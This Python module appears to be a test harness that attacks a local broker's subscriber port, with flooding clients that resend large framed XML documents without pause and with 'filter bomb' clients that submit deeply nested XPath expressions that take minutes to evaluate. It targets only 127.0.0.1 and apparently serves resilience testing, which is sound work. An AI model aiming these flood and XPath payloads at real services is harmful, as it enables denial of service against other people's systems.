"""Anonymous clients that attack the port of subscribers, in a process of their own.

Each flooding address has some connections that send well-formed documents as fast as they are
read, long ones and short ones in turn, and connects again when it is cut off. Each filter bomb
sets an XPath whose evaluation takes minutes, and does so again with another one.
"""

import asyncio
import multiprocessing
import os
import struct
from collections.abc import Awaitable, Callable, Collection, Iterator
from contextlib import contextmanager, suppress

__all__ = ["ATTACKS", "attackers"]

ATTACKS = "990 kB and 4 kB documents, and filters that take minutes"
_TRANSPORT = (
    b'<trn:Transport role="%s" version="1.0" '
    b'xmlns:trn="http://www.telescope-networks.org/xml/Transport/v1.1"><Origin>%s</Origin>'
    b"<Response></Response><Meta>%s</Meta></trn:Transport>"
)
_LENGTHS = (990_000, 4_000)
_CONNECTIONS_OF_ADDRESS = 6
_NEST = "//@*[//@* != //@*[//@* != 'x']]"
# As often as the port lets one address connect, and less hot than a busy loop.
_PAUSE_S = 0.5
_READ_BYTES = 1 << 16
# The attackers are on the machine of the attacked: they get what is left of its processors.
_NICE = 15

_Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, int], Awaitable[None]]


@contextmanager
def attackers(
    port: int, *, n_floods: int, n_bombs: int, cores: Collection[int] = ()
) -> Iterator[int]:
    """Attack a port until the end of the context; give the process that does.

    Parameters
    ----------
    port : int
        Of subscribers, at 127.0.0.1.
    n_floods, n_bombs : int
        Addresses that flood, and that set filters; each has an address of its own [-].
    cores : collection of int
        Processors that the attackers have; none: all.
    """
    context = multiprocessing.get_context("spawn")
    process = context.Process(target=_run, args=(port, n_floods, n_bombs, cores), daemon=True)
    process.start()
    try:
        yield int(process.pid or 0)
    finally:
        process.kill()
        process.join()


def _run(port: int, n_floods: int, n_bombs: int, cores: Collection[int]) -> None:
    os.nice(_NICE)
    if cores:
        os.sched_setaffinity(0, cores)
    asyncio.run(_attack(port, n_floods, n_bombs))


async def _attack(port: int, n_floods: int, n_bombs: int) -> None:
    floods = [
        _for_ever(_flood, port, f"127.0.2.{address + 1}", number)
        for address in range(n_floods)
        for number in range(_CONNECTIONS_OF_ADDRESS)
    ]
    bombs = [_for_ever(_bomb, port, f"127.0.3.{address + 1}", 0) for address in range(n_bombs)]
    await asyncio.gather(*floods, *bombs)


async def _for_ever(attack: _Attack, port: int, host: str, number: int) -> None:
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(host, 0))
            try:
                await attack(reader, writer, number)
            finally:
                writer.transport.abort()
        number += 1
        await asyncio.sleep(_PAUSE_S)


async def _flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> None:
    document = _frame(b"iamalive", b"x" * _LENGTHS[number % len(_LENGTHS)])
    drain = asyncio.create_task(_discard(reader))
    try:
        while True:
            writer.write(document)
            await writer.drain()
    finally:
        drain.cancel()


async def _bomb(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, number: int) -> None:
    expression = " or ".join([_NEST] * 18) + f" or {number} = 0"
    param = f'<Param name="xpath-filter" value="{expression}"/>'.encode()
    writer.write(_frame(b"authenticate", b"ivo://attack/server", param))
    await writer.drain()
    await _discard(reader)


async def _discard(reader: asyncio.StreamReader) -> None:
    """Read until the server ends the connection."""
    while await reader.read(_READ_BYTES):
        pass


def _frame(role: bytes, origin: bytes, meta: bytes = b"") -> bytes:
    document = _TRANSPORT % (role, origin, meta)
    return struct.pack("!I", len(document)) + document
